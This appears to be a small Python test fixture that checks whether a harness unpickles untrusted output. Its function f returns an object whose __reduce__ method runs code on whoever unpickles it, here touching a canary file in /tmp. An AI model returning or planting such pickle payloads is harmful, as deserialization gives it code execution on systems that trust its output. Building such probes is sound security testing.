"""Run code in whoever unpickles the answer."""

import pathlib


class Bomb:
    def __reduce__(self):
        return (pathlib.Path("/tmp/ra3-attack-canary").touch, ())


def f(x):
    return Bomb()
